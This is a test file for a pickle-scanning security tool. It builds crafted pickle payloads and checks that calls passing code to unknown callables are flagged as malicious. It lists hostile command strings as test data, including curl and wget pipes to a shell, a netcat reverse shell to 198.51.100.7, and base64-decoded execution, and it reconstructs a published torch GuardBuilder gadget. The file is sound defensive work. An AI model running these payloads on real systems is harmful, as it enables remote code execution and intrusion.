"""Root cause 11: an unknown callable called with Python or shell code is malicious."""

from __future__ import annotations

import pickle

import pytest

from tests.fixtures.pickles import call0, call4, ops, pickle0, pickle2, pickle4
from tests.scanner.pickle.helpers import finding, rules, scan
from weightscan.scanner import Severity, Verdict

CODE = [
    "__import__('os').system('whoami')",
    "import os; os.system('id')",
    "os.popen('id').read()",
    "subprocess.check_output(['id'])",
    "eval(compile('1', 'x', 'eval'))",
    "exec('print(1)')",
    "sh -c 'touch /tmp/x'",
    'bash -c "echo hi"',
    "curl -s http://198.51.100.7/x | sh",
    "wget -qO- http://198.51.100.7/x|bash",
    "/bin/sh",
    "powershell -enc SQBFAFgA",
    "echo aWQ= | base64 -d | sh",
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "python3 -c 'print(1)'",
    "nc -e /bin/sh 198.51.100.7 4444",
    "x; curl http://198.51.100.7",
    "().__class__.__base__.__subclasses__()",
]


@pytest.mark.parametrize("code", CODE)
def test_unknown_callable_called_with_code_is_malicious(code):
    # e.g. picklescan's samples: torch._dynamo.guards.GuardBuilder.get({}, "<code>")
    data = pickle4(
        ops.SHORT_BINUNICODE("mypkg.guards")
        + ops.SHORT_BINUNICODE("Builder.get")
        + ops.STACK_GLOBAL
        + ops.EMPTY_DICT
        + ops.BINUNICODE(code)
        + ops.TUPLE2
        + ops.REDUCE
    )
    report = scan(data)
    assert report.verdict is Verdict.MALICIOUS, [f.to_dict() for f in report.findings]
    f = finding(report, "pickle.call.code-argument")
    assert f.severity is Severity.CRITICAL
    assert code[:40] in f.evidence["argument"]
    assert f.evidence["callee"] == "mypkg.guards.Builder.get"


def test_the_published_guardbuilder_gadget_is_malicious():
    data = pickle0(
        call0("torch._dynamo.guards", "GuardBuilder.get", "__import__('os').system('whoami')")
    )
    assert scan(data).verdict is Verdict.MALICIOUS


def test_code_in_keyword_arguments_and_lists_counts():
    data = pickle4(
        ops.SHORT_BINUNICODE("mypkg.tools")
        + ops.SHORT_BINUNICODE("Runner")
        + ops.STACK_GLOBAL
        + ops.EMPTY_TUPLE
        + ops.EMPTY_DICT
        + ops.SHORT_BINUNICODE("cmd")
        + ops.EMPTY_LIST
        + ops.SHORT_BINUNICODE("bash -c 'id'")
        + ops.APPEND
        + ops.SETITEM
        + ops.NEWOBJ_EX
    )
    report = scan(data)
    assert report.verdict is Verdict.MALICIOUS, [f.to_dict() for f in report.findings]


def test_a_called_result_with_code_is_malicious():
    data = pickle4(
        call4("mypkg.tools", "factory")
        + ops.SHORT_BINUNICODE("os.system('id')")
        + ops.TUPLE1
        + ops.REDUCE
    )
    report = scan(data)
    assert report.verdict is Verdict.MALICIOUS
    assert "pickle.call.code-argument" in rules(report)


@pytest.mark.parametrize(
    "text",
    [
        "The quick brown fox",
        "/home/user/data/train.csv",
        "models/bert-base-uncased",
        "relu",
        "Evaluation (exec summary): accuracy 0.93",
        "re.compile(r'\\w+')",
        "id",
        "sh",
        "see the shell docs",
        "https://example.com/a|b",
        "import numpy as np",
    ],
)
def test_plain_text_arguments_to_an_unknown_class_stay_suspicious(text):
    data = pickle2(
        ops.GLOBAL("mypkg.config", "Settings")
        + ops.SHORT_BINUNICODE(text)
        + ops.TUPLE1
        + ops.NEWOBJ
    )
    report = scan(data)
    assert report.verdict is Verdict.SUSPICIOUS, [f.to_dict() for f in report.findings]


def test_code_in_the_state_of_an_allowed_container_is_not_a_call():
    data = pickle.dumps({"script": "import os; os.system('id')"}, protocol=4)
    assert scan(data).verdict is Verdict.CLEAN


def test_allowed_callable_with_code_text_is_not_flagged():
    data = pickle2(
        ops.GLOBAL("builtins", "str")
        + ops.SHORT_BINUNICODE("os.system('id')")
        + ops.TUPLE1
        + ops.REDUCE
    )
    assert scan(data).verdict is Verdict.CLEAN


# -- allowed helpers that call a callable they are given -------------------------------


@pytest.mark.parametrize("helper", ["__randomstate_ctor", "__generator_ctor"])
def test_numpy_ctor_helper_forwarding_code_to_an_unknown_callable_is_malicious(helper):
    # __randomstate_ctor(name, ctor) returns RandomState(ctor(name)): ctor is called
    data = pickle2(
        ops.GLOBAL("numpy.random._pickle", helper)
        + ops.SHORT_BINUNICODE("__import__('os').system('id')")
        + ops.GLOBAL("mypkg.evaluator", "run")
        + ops.TUPLE2
        + ops.REDUCE
    )
    report = scan(data)
    assert report.verdict is Verdict.MALICIOUS, [f.to_dict() for f in report.findings]
    assert finding(report, "pickle.call.code-argument", callee="mypkg.evaluator.run")


def test_numpy_ctor_helper_forwarding_to_a_denied_callable_is_a_critical_call():
    data = pickle2(
        ops.GLOBAL("numpy.random._pickle", "__randomstate_ctor")
        + ops.SHORT_BINUNICODE("echo hi")
        + ops.GLOBAL("os", "system")
        + ops.TUPLE2
        + ops.REDUCE
    )
    f = finding(scan(data), "pickle.import.malicious", module="os", name="system")
    assert f.severity is Severity.CRITICAL
    assert f.evidence["called"] is True


def test_reconstructor_runs_the_base_init_with_the_state():
    # copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state)
    data = pickle2(
        ops.GLOBAL("copyreg", "_reconstructor")
        + ops.GLOBAL("mypkg.m", "A")
        + ops.GLOBAL("mypkg.m", "Runner")
        + ops.SHORT_BINUNICODE("bash -c 'id'")
        + ops.TUPLE3
        + ops.REDUCE
    )
    report = scan(data)
    assert report.verdict is Verdict.MALICIOUS, [f.to_dict() for f in report.findings]


def test_real_random_state_pickles_stay_clean():
    np = pytest.importorskip("numpy")
    for obj in (np.random.RandomState(0), np.random.default_rng(0)):
        for protocol in (2, 4):
            assert scan(pickle.dumps(obj, protocol=protocol)).verdict is Verdict.CLEAN


def test_code_as_the_whole_state_of_an_unknown_class_is_malicious():
    # BUILD calls Unknown.__setstate__(state): a bare code string is its argument
    data = pickle2(
        ops.GLOBAL("mypkg.m", "Runner")
        + ops.EMPTY_TUPLE
        + ops.NEWOBJ
        + ops.SHORT_BINUNICODE("__import__('os').system('id')")
        + ops.BUILD
    )
    assert scan(data).verdict is Verdict.MALICIOUS


def test_code_text_inside_a_state_dict_of_an_unknown_class_stays_suspicious():
    # configs legitimately hold commands; a dict state is attribute data
    data = pickle2(
        ops.GLOBAL("mypkg.m", "Config")
        + ops.EMPTY_TUPLE
        + ops.NEWOBJ
        + ops.EMPTY_DICT
        + ops.SHORT_BINUNICODE("launch")
        + ops.SHORT_BINUNICODE("bash -c 'python train.py'")
        + ops.SETITEM
        + ops.BUILD
    )
    assert scan(data).verdict is Verdict.SUSPICIOUS


def test_code_text_in_a_slots_state_tuple_stays_suspicious():
    # (dict state, slots state): attribute data, not an argument
    data = pickle2(
        ops.GLOBAL("mypkg.m", "Config")
        + ops.EMPTY_TUPLE
        + ops.NEWOBJ
        + ops.NONE
        + ops.EMPTY_DICT
        + ops.SHORT_BINUNICODE("cmd")
        + ops.SHORT_BINUNICODE("sh -c 'make'")
        + ops.SETITEM
        + ops.TUPLE2
        + ops.BUILD
    )
    assert scan(data).verdict is Verdict.SUSPICIOUS
